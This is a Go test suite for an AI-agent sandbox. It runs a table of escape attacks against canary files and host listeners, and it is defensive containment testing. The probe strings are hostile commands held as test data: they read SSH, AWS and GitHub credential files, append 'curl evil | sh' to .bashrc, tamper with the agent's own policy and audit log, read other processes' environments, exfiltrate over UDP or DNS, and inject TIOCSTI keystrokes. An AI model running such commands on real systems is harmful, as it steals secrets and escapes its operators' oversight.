@@ -1,0 +1,534 @@
+package e2e
+
+// The escape-test suite (reference/threats.md): a table of attacks, each run
+// for real inside the sandbox through the real agent-sandbox binary, once per
+// backend available on this host. An attack passes when its probe fails
+// inside the sandbox, no canary shows up (in the output or on the host), and
+// its legitimate neighbour still works inside the same sandbox. Every probe is
+// also run once with --no-sandbox as a control: if the control fails, the
+// probe proves nothing here and the attack is skipped, saying why.
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+)
+
+// backend is one way of running the suite.
+type backend struct {
+	name  string
+	flags []string
+	// skip says why the backend cannot run here ("" when it can).
+	skip func() string
+}
+
+var backends = []backend{
+	{"landlock", []string{"--sandbox-backend", "landlock"}, func() string {
+		if runtime.GOOS != "linux" {
+			return "the landlock backend is Linux-only"
+		}
+		if _, err := os.Stat("/sys/kernel/security/landlock"); err != nil {
+			if _, _, errno := syscall.Syscall(444, 0, 0, 1); errno != 0 {
+				return "this kernel has no Landlock (landlock_create_ruleset: " + errno.Error() + ")"
+			}
+		}
+		return ""
+	}},
+	{"nono", []string{"--sandbox-backend", "nono"}, func() string {
+		if _, err := exec.LookPath("nono"); err != nil {
+			return "nono not on PATH: this backend runs under nix flake check, where the flake provides nono"
+		}
+		return ""
+	}},
+}
+
+// world is the throwaway machine state one backend's suite runs against.
+type world struct {
+	t      *testing.T
+	bin    string // agent-sandbox
+	root   string
+	home   string
+	work   string // the workdir (cwd of every run)
+	folder string // an on-disk agent folder with open network (command /bin/sh)
+	canary string // secret text seeded everywhere the agent must not reach
+	flags  []string
+}
+
+func newWorld(t *testing.T, bin string, flags []string) *world {
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := &world{
+		t: t, bin: bin, root: root, flags: flags,
+		home:   filepath.Join(root, "home"),
+		work:   filepath.Join(root, "work", "project"),
+		folder: filepath.Join(root, "agents", "open"),
+		canary: fmt.Sprintf("CANARY%dSECRET", time.Now().UnixNano()),
+	}
+	files := map[string]string{
+		".ssh/id_ed25519":      w.canary,
+		".aws/credentials":     "aws_secret_access_key = " + w.canary,
+		".gnupg/private-keys":  w.canary,
+		".netrc":               "machine x login y password " + w.canary,
+		".config/gh/hosts.yml": "oauth_token: " + w.canary,
+		".bashrc":              "# rc " + w.canary,
+		"notes.txt":            w.canary,
+		".local/state/agent-sandbox/agents/other/data": w.canary,
+		".local/state/agent-sandbox/audit/shell.jsonl": w.canary,
+	}
+	for rel, body := range files {
+		write(t, filepath.Join(w.home, rel), body+"\n")
+	}
+	write(t, filepath.Join(root, "work", "sibling", "README"), w.canary+"\n")
+	write(t, filepath.Join(w.work, "README"), "project file\n")
+	write(t, filepath.Join(w.folder, "agent.toml"), "command = \"/bin/sh\"\n")
+	write(t, filepath.Join(w.folder, "sandbox", "nono.json"), "{}\n")
+	return w
+}
+
+func write(t *testing.T, p, body string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// env is the launching environment: a throwaway HOME and canary secrets.
+func (w *world) env() []string {
+	return []string{
+		"HOME=" + w.home, "PATH=/usr/bin:/bin", "SHELL=/bin/sh", "LANG=C.UTF-8",
+		"GITHUB_TOKEN=" + w.canary, "AWS_SECRET_ACCESS_KEY=" + w.canary,
+		"OPENAI_API_KEY=" + w.canary, "SSH_AUTH_SOCK=/tmp/" + w.canary,
+	}
+}
+
+// run is one agent-sandbox invocation.
+type run struct {
+	code int
+	out  string // stdout and stderr
+}
+
+// runAgent runs `agent-sandbox FLAGS AGENT -c SCRIPT` in the workdir.
+// agent is "shell" (built-in, offline) or "open" (w.folder, open network).
+func (w *world) runAgent(sandboxed bool, agent, script string, stdin *os.File) run {
+	args := append([]string{}, w.flags...)
+	if !sandboxed {
+		args = []string{"--no-sandbox"}
+	}
+	if agent == "open" {
+		agent = w.folder
+	}
+	args = append(args, agent, "-c", script)
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, w.bin, args...)
+	cmd.Dir = w.work
+	cmd.Env = w.env()
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if stdin != nil {
+		cmd.Stdin = stdin
+		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
+	}
+	err := cmd.Run()
+	code := 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+	} else if err != nil {
+		w.t.Fatalf("running agent-sandbox: %v", err)
+	}
+	return run{code, out.String()}
+}
+
+// vars is what an attack's setup hands to its probe and checks.
+type vars map[string]string
+
+// expand replaces @NAME (longest names first) with absolute values, so the
+// probe names host paths exactly (HOME inside the sandbox may differ).
+func expand(s string, v vars) string {
+	keys := make([]string, 0, len(v))
+	for k := range v {
+		keys = append(keys, k)
+	}
+	for changed := true; changed; {
+		changed = false
+		for i := 1; i < len(keys); i++ {
+			if len(keys[i]) > len(keys[i-1]) {
+				keys[i], keys[i-1] = keys[i-1], keys[i]
+				changed = true
+			}
+		}
+	}
+	for _, k := range keys {
+		s = strings.ReplaceAll(s, "@"+k, v[k])
+	}
+	return s
+}
+
+// attack is one row of the table.
+type attack struct {
+	name  string
+	class int // threats.md class
+	// agent: "shell" (built-in, network blocked) or "open" (open network).
+	agent string
+	// probe must fail inside the sandbox; neighbour must succeed there.
+	probe, neighbour string
+	// neighbourAgent, when set, runs the neighbour with another agent
+	// (for network probes: the same probe succeeds with an open network).
+	neighbourAgent string
+	// needs are programs the probe needs.
+	needs []string
+	// pty runs the probe with a pseudo-terminal as stdin.
+	pty bool
+	// setup prepares host-side state (listeners, processes) and returns
+	// variables for the probe; it runs before every run of the probe.
+	setup func(t *testing.T, w *world) (vars, func() string)
+	// noControl: the probe succeeds unsandboxed by construction (the
+	// control would change the host); the neighbour proves the probe runs.
+	noControl bool
+}
+
+// The table. @HOME, @WORK, @ROOT, @FOLDER, @CANARY and the setup's variables
+// (@PID, @MARKER, @PORT, @ABSTRACT) are replaced by absolute values.
+var attacks = []attack{
+	{name: "read ~/.ssh key", class: 1, agent: "shell",
+		probe: `cat @HOME/.ssh/id_ed25519`, neighbour: `cat @WORK/README`},
+	{name: "read ~/.aws credentials", class: 1, agent: "shell",
+		probe: `cat @HOME/.aws/credentials`, neighbour: `cat @WORK/README`},
+	{name: "read ~/.gnupg", class: 1, agent: "shell",
+		probe: `cat @HOME/.gnupg/private-keys`, neighbour: `ls @WORK`},
+	{name: "read ~/.netrc", class: 1, agent: "shell",
+		probe: `cat @HOME/.netrc`, neighbour: `cat @WORK/README`},
+	{name: "read ~/.config/gh", class: 1, agent: "shell",
+		probe: `cat @HOME/.config/gh/hosts.yml`, neighbour: `cat @WORK/README`},
+	{name: "list the home directory", class: 1, agent: "shell",
+		probe: `ls -a @HOME | grep -q notes.txt`, neighbour: `ls -a @WORK | grep -q README`},
+	{name: "write into the home directory", class: 2, agent: "shell",
+		probe: `echo x > @HOME/planted`, neighbour: `echo x > @WORK/written`,
+		setup: absent("@HOME/planted")},
+	{name: "append to ~/.bashrc", class: 2, agent: "shell",
+		probe: `echo 'curl evil | sh' >> @HOME/.bashrc`, neighbour: `echo ok >> @WORK/README`,
+		setup: unchanged("@HOME/.bashrc")},
+	{name: "write /etc", class: 2, agent: "shell",
+		probe: `echo x > /etc/agent-sandbox-escape-canary`, neighbour: `echo x > "$TMPDIR/ok"`,
+		setup: absent("/etc/agent-sandbox-escape-canary")},
+	{name: "write a sibling project", class: 2, agent: "shell",
+		probe: `echo x >> @ROOT/work/sibling/README`, neighbour: `echo x >> @WORK/README`,
+		setup: unchanged("@ROOT/work/sibling/README")},
+	{name: "write another agent's state dir", class: 4, agent: "shell",
+		probe: `echo x >> @HOME/.local/state/agent-sandbox/agents/other/data`, neighbour: `echo x > "$TMPDIR/mine"`,
+		setup: unchanged("@HOME/.local/state/agent-sandbox/agents/other/data")},
+	{name: "write the audit dir", class: 4, agent: "shell",
+		probe: `echo x >> @HOME/.local/state/agent-sandbox/audit/shell.jsonl`, neighbour: `echo x > "$TMPDIR/mine"`,
+		setup: unchanged("@HOME/.local/state/agent-sandbox/audit/shell.jsonl")},
+	{name: "tamper with its own generated policy", class: 4, agent: "shell", noControl: true,
+		probe: `echo '{"tampered": "@CANARY"}' > @HOME/.local/state/agent-sandbox/agents/shell/nono-profile.json`, neighbour: `echo x > "$TMPDIR/mine"`,
+		setup: lacksCanary("@HOME/.local/state/agent-sandbox/agents/shell/nono-profile.json")},
+	{name: "edit its own agent folder", class: 4, agent: "open",
+		probe: `echo 'args = ["--evil"]' >> @FOLDER/agent.toml`, neighbour: `cat @FOLDER/agent.toml`,
+		setup: unchanged("@FOLDER/agent.toml")},
+	{name: "read through a symlink", class: 6, agent: "shell",
+		probe:     `ln -sf @HOME/.ssh/id_ed25519 @WORK/leak && cat @WORK/leak`,
+		neighbour: `ln -sf @WORK/README @WORK/link && cat @WORK/link`},
+	{name: "write through a symlink", class: 6, agent: "shell",
+		probe:     `ln -sf @HOME/.bashrc @WORK/rc && echo evil >> @WORK/rc`,
+		neighbour: `ln -sf @WORK/README @WORK/rc2 && echo ok >> @WORK/rc2`,
+		setup:     unchanged("@HOME/.bashrc")},
+	{name: "hard-link a secret", class: 7, agent: "shell",
+		probe: `ln -f @HOME/.ssh/id_ed25519 @WORK/k && cat @WORK/k`, neighbour: `ln -f @WORK/README @WORK/hl && cat @WORK/hl`},
+	{name: "hard-link the read-only agent folder and write", class: 7, agent: "open",
+		probe: `ln -f @FOLDER/agent.toml @WORK/hl2 && echo 'command = "evil"' >> @WORK/hl2`, neighbour: `ln -f @WORK/README @WORK/hl3`,
+		setup: unchanged("@FOLDER/agent.toml")},
+	{name: "read a host process's environ", class: 14, agent: "shell",
+		probe: `cat /proc/@PID/environ`, neighbour: `head -1 /proc/cpuinfo`,
+		setup: hostProcess},
+	{name: "read a host process's cmdline", class: 15, agent: "shell",
+		probe: `cat /proc/@PID/cmdline | grep -a @MARKER`, neighbour: `head -1 /proc/cpuinfo`,
+		setup: hostProcess},
+	{name: "signal a host process", class: 15, agent: "shell",
+		probe: `kill -TERM @PID`, neighbour: `sleep 30 & kill $!`,
+		setup: hostProcess},
+	{name: "connect to an abstract Unix socket", class: 9, agent: "open", needs: []string{"python3"},
+		probe:     `python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\0@ABSTRACT"); s.send(b"@CANARY")'`,
+		neighbour: `python3 -c 'import socket; a,b=socket.socketpair(); a.send(b"x"); assert b.recv(1)==b"x"'`,
+		setup:     abstractListener},
+	{name: "TCP to a host loopback service (offline)", class: 10, agent: "shell", needs: []string{"python3"},
+		probe:          `python3 -c 'import socket; s=socket.create_connection(("127.0.0.1", @PORT), 3); s.send(b"@CANARY")'`,
+		neighbourAgent: "open", setup: tcpListener},
+	{name: "UDP datagram out (offline)", class: 11, agent: "shell", needs: []string{"python3"},
+		probe:          `python3 -c 'import socket,time; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b"@CANARY", ("127.0.0.1", @PORT)) or time.sleep(0.05) for _ in range(5)]'`,
+		neighbourAgent: "open", setup: udpListener},
+	{name: "DNS query out (offline)", class: 11, agent: "shell", needs: []string{"python3"},
+		probe:          `python3 -c 'import socket; q=b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06canary\x04test\x00\x00\x01\x00\x01"; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(q, ("127.0.0.1", @PORT)) for _ in range(3)]'`,
+		neighbourAgent: "open", setup: udpListener},
+	{name: "inject keystrokes with TIOCSTI", class: 17, agent: "shell", needs: []string{"python3"}, pty: true,
+		probe:     `python3 -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b"x")'`,
+		neighbour: `python3 -c 'import os; assert os.isatty(0)'`},
+	{name: "read secrets from the environment", class: 14, agent: "shell", noControl: true,
+		probe:     `env | grep -q @CANARY || grep -aq @CANARY /proc/self/environ`,
+		neighbour: `test -n "$HOME" && test -n "$PATH"`},
+	{name: "gain privileges (no_new_privs)", class: 16, agent: "shell", noControl: true,
+		probe:     `while read k v; do [ "$k" = NoNewPrivs: ] && [ "$v" = 0 ] && exit 0; done < /proc/self/status; exit 1`,
+		neighbour: `while read k v; do [ "$k" = NoNewPrivs: ] && [ "$v" = 1 ] && exit 0; done < /proc/self/status; exit 1`},
+}
+
+// absent checks that a host file does not exist after the probe.
+func absent(p string) func(*testing.T, *world) (vars, func() string) {
+	return func(t *testing.T, w *world) (vars, func() string) {
+		path := expand(p, w.vars())
+		os.Remove(path)
+		return nil, func() string {
+			if _, err := os.Lstat(path); err == nil {
+				os.Remove(path)
+				return path + " was created"
+			}
+			return ""
+		}
+	}
+}
+
+// lacksCanary checks that a host file (which may exist) never holds the
+// canary after the probe.
+func lacksCanary(p string) func(*testing.T, *world) (vars, func() string) {
+	return func(t *testing.T, w *world) (vars, func() string) {
+		path := expand(p, w.vars())
+		return nil, func() string {
+			if b, _ := os.ReadFile(path); bytes.Contains(b, []byte(w.canary)) {
+				os.Remove(path)
+				return path + " was overwritten by the agent"
+			}
+			return ""
+		}
+	}
+}
+
+// unchanged checks that a host file keeps its content.
+func unchanged(p string) func(*testing.T, *world) (vars, func() string) {
+	return func(t *testing.T, w *world) (vars, func() string) {
+		path := expand(p, w.vars())
+		before, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return nil, func() string {
+			after, _ := os.ReadFile(path)
+			if !bytes.Equal(before, after) {
+				os.WriteFile(path, before, 0o644)
+				return path + " was changed"
+			}
+			return ""
+		}
+	}
+}
+
+// hostProcess starts a process outside the sandbox with a canary in its
+// environment and a marker in its command line; the check fails if it was
+// signalled.
+func hostProcess(t *testing.T, w *world) (vars, func() string) {
+	marker := "MARKER" + strconv.FormatInt(time.Now().UnixNano(), 36)
+	cmd := exec.Command("/bin/sh", "-c", "sleep 600; : "+marker)
+	cmd.Env = []string{"SECRET=" + w.canary}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() { cmd.Wait(); close(done) }()
+	t.Cleanup(func() { cmd.Process.Kill(); <-done })
+	return vars{"PID": strconv.Itoa(cmd.Process.Pid), "MARKER": marker}, func() string {
+		select {
+		case <-done:
+			return "the host process was killed"
+		case <-time.After(100 * time.Millisecond):
+			return ""
+		}
+	}
+}
+
+// listener records whether anything reached it.
+func recorder(t *testing.T, accept func() ([]byte, error)) func() string {
+	got := make(chan []byte, 16)
+	go func() {
+		for {
+			b, err := accept()
+			if err != nil {
+				return
+			}
+			got <- b
+		}
+	}()
+	return func() string {
+		select {
+		case b := <-got:
+			return fmt.Sprintf("the host listener was reached (%q)", b)
+		case <-time.After(300 * time.Millisecond):
+			return ""
+		}
+	}
+}
+
+func tcpListener(t *testing.T, w *world) (vars, func() string) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	check := recorder(t, func() ([]byte, error) {
+		c, err := l.Accept()
+		if err != nil {
+			return nil, err
+		}
+		defer c.Close()
+		c.SetReadDeadline(time.Now().Add(2 * time.Second))
+		b := make([]byte, 64)
+		n, _ := c.Read(b)
+		return append([]byte("connection:"), b[:n]...), nil
+	})
+	return vars{"PORT": strconv.Itoa(l.Addr().(*net.TCPAddr).Port)}, check
+}
+
+func udpListener(t *testing.T, w *world) (vars, func() string) {
+	c, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { c.Close() })
+	check := recorder(t, func() ([]byte, error) {
+		b := make([]byte, 512)
+		n, _, err := c.ReadFrom(b)
+		return b[:n], err
+	})
+	return vars{"PORT": strconv.Itoa(c.LocalAddr().(*net.UDPAddr).Port)}, check
+}
+
+func abstractListener(t *testing.T, w *world) (vars, func() string) {
+	name := fmt.Sprintf("agent-sandbox-canary-%d", time.Now().UnixNano())
+	l, err := net.Listen("unix", "@"+name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	check := recorder(t, func() ([]byte, error) {
+		c, err := l.Accept()
+		if err != nil {
+			return nil, err
+		}
+		c.Close()
+		return []byte("connection"), nil
+	})
+	return vars{"ABSTRACT": name}, check
+}
+
+func (w *world) vars() vars {
+	return vars{"HOME": w.home, "WORK": w.work, "ROOT": w.root, "FOLDER": w.folder, "CANARY": w.canary}
+}
+
+// TestEscapes runs the table against every backend available here.
+func TestEscapes(t *testing.T) {
+	if testing.Short() {
+		t.Skip("the escape suite runs the real binary many times; it is skipped with -short (nix build's check phase) and runs in go test ./...")
+	}
+	bin := buildAgentSandbox(t)
+	for _, b := range backends {
+		t.Run(b.name, func(t *testing.T) {
+			if why := b.skip(); why != "" {
+				t.Skip(why)
+			}
+			for _, a := range attacks {
+				t.Run(a.name, func(t *testing.T) { runAttack(t, newWorld(t, bin, b.flags), a) })
+			}
+		})
+	}
+}
+
+func runAttack(t *testing.T, w *world, a attack) {
+	for _, n := range a.needs {
+		if _, err := exec.LookPath(filepath.Join("/usr/bin", n)); err != nil {
+			t.Skipf("needs /usr/bin/%s (apt-get install %s); .ci/run installs it", n, n)
+		}
+	}
+	once := func(sandboxed bool, agent, script string) (run, string) {
+		v := w.vars()
+		check := func() string { return "" }
+		if a.setup != nil {
+			extra, c := a.setup(t, w)
+			for k, x := range extra {
+				v[k] = x
+			}
+			check = c
+		}
+		var stdin *os.File
+		if a.pty {
+			ptmx, tty, err := pty.Open()
+			if err != nil {
+				t.Skipf("cannot open a pseudo-terminal: %v", err)
+			}
+			defer ptmx.Close()
+			defer tty.Close()
+			go func() {
+				b := make([]byte, 256)
+				for {
+					if _, err := ptmx.Read(b); err != nil {
+						return
+					}
+				}
+			}()
+			stdin = tty
+		}
+		r := w.runAgent(sandboxed, agent, expand(script, v), stdin)
+		return r, check()
+	}
+
+	if !a.noControl {
+		r, _ := once(false, a.agent, a.probe)
+		if r.code != 0 {
+			if a.pty {
+				if b, _ := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); strings.TrimSpace(string(b)) == "0" {
+					t.Skip("TIOCSTI is disabled on this host (dev.tty.legacy_tiocsti=0): the attack cannot work even unsandboxed")
+				}
+			}
+			t.Skipf("control: the probe fails even with --no-sandbox, so it proves nothing here (exit %d): %s", r.code, r.out)
+		}
+	}
+
+	r, effect := once(true, a.agent, a.probe)
+	if r.code == 0 {
+		t.Errorf("attack succeeded inside the sandbox (exit 0): %s", r.out)
+	}
+	if r.code == 125 {
+		t.Errorf("agent-sandbox refused to run (exit 125), so the attack was never tried: %s", r.out)
+	}
+	if strings.Contains(r.out, w.canary) {
+		t.Errorf("the canary leaked into the output: %s", r.out)
+	}
+	if effect != "" {
+		t.Errorf("the attack had an effect on the host: %s", effect)
+	}
+
+	nAgent, nScript := a.agent, a.neighbour
+	if a.neighbourAgent != "" {
+		nAgent, nScript = a.neighbourAgent, a.probe
+	}
+	r, effect = once(true, nAgent, nScript)
+	if r.code != 0 {
+		t.Errorf("the legitimate neighbour failed inside the sandbox (exit %d): %s", r.code, r.out)
+	}
+	if a.neighbourAgent != "" && effect == "" {
+		t.Errorf("with an open network the same probe did not reach the host listener; the blocked result proves nothing")
+	}
+}
